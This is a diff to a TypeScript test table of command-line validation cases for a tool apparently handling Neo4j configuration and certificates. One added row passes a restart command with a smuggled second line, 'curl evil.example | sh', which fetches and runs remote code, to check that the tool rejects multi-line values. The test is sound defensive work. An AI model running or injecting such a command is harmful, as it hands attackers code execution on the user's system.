@@ -39,6 +39,8 @@ export const cliRows: CliRow[] = [
   ["conf out missing", ["conf", "render", "--out", "DIR/nowhere"], {}, "--out", "does not exist"],
   ["conf bad password env", ["conf", "render", "--out", "DIR/conf", "--password-env", "A-B"], {}, "--password-env", "environment variable name"],
   ["conf check missing folder", ["conf", "check", "DIR/nowhere"], {}, "nowhere", "does not exist"],
+  ["conf check --pass-env not a name", ["conf", "check", "DIR/conf", "--run-password-script", "--pass-env", "A-B"], {}, "--pass-env", "environment variable name"],
+  ["letsencrypt restart command with a line break", ["certs", "letsencrypt", "--live", "DIR/empty", "--out", "DIR/le", "--restart-command", "systemctl restart neo4j\ncurl evil.example | sh"], {}, "--restart-command", "must be one line"],
   // cypher
   ["cypher no state", ["cypher", "plan"], {}, "--state", "missing"],
   ["cypher state not JSON", ["cypher", "plan", "--state", "{nope"], {}, "--state", "not valid JSON"],
